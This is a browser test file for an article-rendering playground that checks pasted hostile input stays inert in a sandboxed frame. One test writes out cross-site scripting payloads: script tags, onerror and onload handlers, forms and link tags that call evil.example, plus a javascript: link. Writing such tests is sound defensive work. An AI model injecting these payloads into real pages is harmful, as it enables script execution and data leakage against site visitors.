import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { runnerImport } from "vite";
import { drawn, paste, status } from "../page.mjs";

const load = async (file) => {
  const path = fileURLToPath(new URL(file, import.meta.url));
  return (await runnerImport(path, { configFile: false, logLevel: "error" })).module;
};

const PANELS = ["outline", "model", "figures", "links", "warnings", "dropped"];
const TABS = ["html", "markdown", "text", "json", "jsonld", "mirror", "article"];

/** Goes through everything that can be shown of an article, and clicks what can be clicked. */
async function lookAtAll(page) {
  for (const panel of PANELS) {
    await page.click(`#found-tabs-${panel}`);
    await drawn(page);
    if (panel !== "model") continue;
    for (let round = 0; round < 5; round++) {
      await page.evaluate(() => {
        for (const details of document.querySelectorAll("#found details")) details.open = true;
      });
      await page.waitForTimeout(30);
    }
  }
  for (const tab of TABS) {
    await page.click(`#output-tabs-${tab}`);
    await drawn(page);
  }
  await page.frameLocator("#output iframe").locator("article").waitFor({ state: "attached" });
}

/** What a page must not have become. */
const remains = (page) =>
  page.evaluate(() => ({
    title: document.title,
    scripts: [...document.scripts].map(({ src }) => new URL(src).pathname),
    frames: document.querySelectorAll("iframe:not(#output iframe), object, embed, base").length,
    handlers: [...document.querySelectorAll("*")].filter((element) =>
      [...element.attributes].some(({ name }) => name.startsWith("on")),
    ).length,
  }));

const CLEAN = { title: "Playground – dw-article", scripts: ["/playground/main.js"], frames: 0, handlers: 0 };

/** Input that means harm. */
export const HOSTILE = {
  "hostile: no script of an input runs, and no request leaves": async ({ open }) => {
    const { MARKUP, ADDRESSES } = await load("../../payloads/texts.ts");
    const { asAddress, asMarkup, asText, CARRIERS } = await load("../../payloads/carriers.ts");
    const { page, told, asked } = await open();
    const cargoes = [asMarkup(MARKUP.join("\n")), asText(MARKUP.join("\n")), ...ADDRESSES.slice(0, 3).map(asAddress)];
    for (const [layout, carry] of Object.entries(CARRIERS)) {
      for (const cargo of cargoes) {
        await paste(page, carry(cargo));
        await page.waitForFunction(() => /^(?:Layout|[A-Z_]+:)/.test(document.getElementById("status").textContent));
        if (!(await page.locator("#results").isVisible())) continue;
        await lookAtAll(page);
        assert.deepEqual(await remains(page), CLEAN, layout);
      }
    }
    assert.deepEqual(asked, []);
    assert.deepEqual(told, []);
  },

  "hostile: a link of a rendered article leads nowhere inside the page": async ({ open, origin }) => {
    const { page } = await open();
    const address = `${origin}/index.html`;
    await paste(
      page,
      `<h1>Fog</h1><p>To <a href="${address}">elsewhere</a>.</p><p><a href="javascript:alert(1)">x</a></p>`,
    );
    await status(page, "Layout");
    const [opened] = await Promise.all([
      page.context().waitForEvent("page"),
      page.frameLocator("#output iframe").locator("a").first().click(),
    ]);
    await opened.waitForLoadState();
    assert.equal(opened.url(), address);
    assert.equal(await opened.evaluate(() => `${document.referrer} ${window.opener}`), " null");
    assert.equal(new URL(page.url()).pathname, "/playground/");
    assert.equal(await page.frameLocator("#output iframe").locator("a").count(), 1);
  },

  "hostile: even markup that got into the frame would be inert": async ({ open }) => {
    const { page, asked } = await open({ complaints: false });
    await paste(page, "<h1>Fog</h1><p>Text.</p>");
    await status(page, "Layout");
    await page.locator("#output iframe").waitFor();
    await page.evaluate(() => {
      const frame = document.querySelector("#output iframe");
      // No frame among them: Chromium connects to a frame's host before it asks the policy. The library writes none.
      const bad = [
        "<script>parent.postMessage('ran','*');fetch('https://evil.example/a')</script>",
        '<img src="https://evil.example/b.png" onerror="top.location=\'https://evil.example/c\'">',
        '<video src="https://evil.example/d.mp4" autoplay></video>',
        '<link rel="stylesheet" href="https://evil.example/e.css"><link rel="preconnect" href="https://evil.example">',
        '<form action="https://evil.example/f"><button autofocus>x</button></form>',
        '<object data="https://evil.example/g"></object>',
        "<svg onload=\"parent.postMessage(1,'*')\"></svg>",
        "<h1>Here</h1>",
      ];
      window.messages = 0;
      addEventListener("message", () => window.messages++);
      frame.srcdoc = frame.srcdoc.replace("<body>", `<body>${bad.join("")}`);
    });
    // Whether it is painted says nothing: a busy browser lays a sandboxed frame out when it gets round to it.
    await page.frameLocator("#output iframe").locator("h1", { hasText: "Here" }).waitFor({ state: "attached" });
    await page.waitForTimeout(500);
    assert.equal(await page.evaluate(() => window.messages), 0);
    assert.deepEqual(asked, []);
    assert.equal(new URL(page.url()).pathname, "/playground/");
  },
};
